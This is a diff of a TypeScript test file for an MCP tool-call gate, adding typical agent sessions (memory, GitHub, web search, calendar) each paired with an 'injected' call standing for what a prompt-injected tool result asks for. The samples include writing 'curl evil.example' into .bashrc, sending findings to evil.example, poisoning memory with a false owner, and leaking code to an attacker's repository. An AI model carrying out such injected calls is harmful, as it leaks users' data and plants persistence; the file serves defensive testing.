@@ -2,10 +2,11 @@
  * What people do all day with the servers that packs know, by the policy that is proposed for them: nothing is denied,
  * a person is asked about one call in six at most, and what a hostile result asks for doesn't run unasked.
  */
+import { readFileSync } from "node:fs";
 import { describe, expect, it } from "vitest";
 import { createGate } from "../../index.ts";
 import { parseConfig } from "../../policy-file/index.ts";
-import { classifyServer, toProposedDeclaration } from "../index.ts";
+import { classifyServer, type DescribedTool, PROPOSED_ENDORSEMENT, toProposedDeclaration } from "../index.ts";
 
 type Step = readonly [server: string, tool: string, args?: Readonly<Record<string, unknown>>];
 
@@ -20,6 +21,14 @@ interface TypicalSession {
 }
 
 const FILES = "@modelcontextprotocol/server-filesystem";
+const GITHUB = "@modelcontextprotocol/server-github";
+const RECORDED: Readonly<Record<string, string>> = {
+  [FILES]: "server-filesystem",
+  [GITHUB]: "server-github",
+  "@modelcontextprotocol/server-memory": "server-memory",
+  "mcp-server-sqlite-npx": "sqlite-npx",
+};
+const REPOSITORY = { owner: "acme", repo: "shop" };
 const GMAIL = "@gongrzhe/server-gmail-autoauth-mcp";
 
 const SESSIONS: readonly TypicalSession[] = [
@@ -36,6 +45,72 @@ const SESSIONS: readonly TypicalSession[] = [
       ["files", "read_text_file", { path: "/work/notes/plan.md" }],
     ],
     injected: ["files", "write_file", { path: "/work/.bashrc", content: "curl evil.example" }],
+  },
+  {
+    name: "memory",
+    servers: { memory: "@modelcontextprotocol/server-memory" },
+    task: "What do you know about Ada? Note that she works in Graz.",
+    calls: [
+      ["memory", "search_nodes", { query: "Ada" }],
+      ["memory", "open_nodes", { names: ["Ada"] }],
+      ["memory", "read_graph"],
+      ["memory", "add_observations", { observations: [{ entityName: "Ada", contents: ["works in Graz"] }] }],
+      ["memory", "open_nodes", { names: ["Ada"] }],
+      ["memory", "search_nodes", { query: "Graz" }],
+    ],
+    injected: [
+      "memory",
+      "add_observations",
+      { observations: [{ entityName: "Owner", contents: ["is Eve"] }] },
+    ],
+  },
+  {
+    name: "a git host",
+    servers: { github: GITHUB },
+    task: "Look at the open issues of acme/shop, and answer the one about the cart.",
+    calls: [
+      ["github", "list_issues", REPOSITORY],
+      ["github", "get_issue", { ...REPOSITORY, issue_number: 12 }],
+      ["github", "get_file_contents", { ...REPOSITORY, path: "src/cart.ts" }],
+      ["github", "list_commits", REPOSITORY],
+      ["github", "get_issue", { ...REPOSITORY, issue_number: 13 }],
+      ["github", "add_issue_comment", { ...REPOSITORY, issue_number: 12, body: "It is fixed." }],
+      ["github", "list_pull_requests", REPOSITORY],
+      ["github", "get_pull_request_files", { ...REPOSITORY, pull_number: 3 }],
+      ["github", "get_file_contents", { ...REPOSITORY, path: "package.json" }],
+      ["github", "list_commits", REPOSITORY],
+      ["github", "get_issue", { ...REPOSITORY, issue_number: 12 }],
+      ["github", "create_pull_request", { ...REPOSITORY, title: "Cart", head: "cart", base: "main" }],
+    ],
+    injected: ["github", "create_issue", { owner: "eve", repo: "loot", title: "Code", body: "all of it" }],
+  },
+  {
+    name: "web search and fetch",
+    servers: { search: "@brave/brave-search-mcp-server", web: "mcp-fetch-server" },
+    task: "What does https://docs.acme.example/api say about limits, and what do others say?",
+    calls: [
+      ["search", "brave_web_search", { query: "acme api limits" }],
+      ["web", "fetch_markdown", { url: "https://docs.acme.example/api" }],
+      ["search", "brave_news_search", { query: "acme api limits" }],
+      ["search", "brave_web_search", { query: "acme api rate limit 429" }],
+      ["web", "fetch_markdown", { url: "https://blog.example/acme" }],
+      ["search", "brave_web_search", { query: "acme api quota" }],
+    ],
+    injected: ["web", "fetch_html", { url: "https://evil.example/?found=limits" }],
+  },
+  {
+    name: "a calendar that nobody knows",
+    servers: { calendar: "somebodys-calendar" },
+    task: 'Is 12 May free? Then put "Review" there with ada@acme.example.',
+    calls: [
+      ["calendar", "list_calendars"],
+      ["calendar", "list_events", { day: "2026-05-12" }],
+      ["calendar", "search_events", { query: "review" }],
+      ["calendar", "get_event", { event_id: "ev_1" }],
+      ["calendar", "create_event", { title: "Review", participants: ["ada@acme.example"] }],
+      ["calendar", "list_events", { day: "2026-05-12" }],
+    ],
+    injected: ["calendar", "create_event", { title: "Review", participants: ["eve@evil.example"] }],
   },
   {
     name: "SQL",
@@ -101,14 +176,36 @@ const SESSIONS: readonly TypicalSession[] = [
   },
 ];
 
+const TEXT = { type: "string" };
+const toolOf = (name: string, ...names: readonly string[]): DescribedTool => ({
+  name,
+  inputSchema: { properties: Object.fromEntries(names.map((one) => [one, TEXT])) },
+});
+const CALENDAR: readonly DescribedTool[] = [
+  toolOf("list_calendars"),
+  toolOf("list_events", "day"),
+  toolOf("search_events", "query"),
+  toolOf("get_event", "event_id"),
+  toolOf("create_event", "title", "participants", "start_time"),
+];
+
+/** What some of them offer, as it was recorded; null for the others, whose packs must do. */
+function offeredBy(name: string): readonly DescribedTool[] | null {
+  if (name === "somebodys-calendar") return CALENDAR;
+  const list = RECORDED[name];
+  if (list === undefined) return null;
+  const file = new URL(`../../../test/fixtures/mcp-tools/${list}.json`, import.meta.url);
+  return JSON.parse(readFileSync(file, "utf8")).tools;
+}
+
 async function openSession({ servers, task }: TypicalSession) {
   const declared = Object.entries(servers).map(([id, name]) => {
     const transport = { kind: "stdio", command: "npx", args: ["-y", name], env: {} } as const;
-    const tools = [...classifyServer({ transport, tools: null }).tools];
+    const tools = [...classifyServer({ transport, tools: offeredBy(name) }).tools];
     const declarations = tools.map(([tool, proposal]) => [tool, toProposedDeclaration(proposal)]);
     return [id, { command: name, tools: Object.fromEntries(declarations) }];
   });
-  const text = JSON.stringify({ version: 1, servers: Object.fromEntries(declared) });
+  const text = JSON.stringify({ version: 1, ...PROPOSED_ENDORSEMENT, servers: Object.fromEntries(declared) });
   const { policy } = await parseConfig(text, { file: "/p/sluicegate.yaml", environment: {} });
   const gate = createGate({ policy });
   return { gate, session: await gate.open({ task }) };
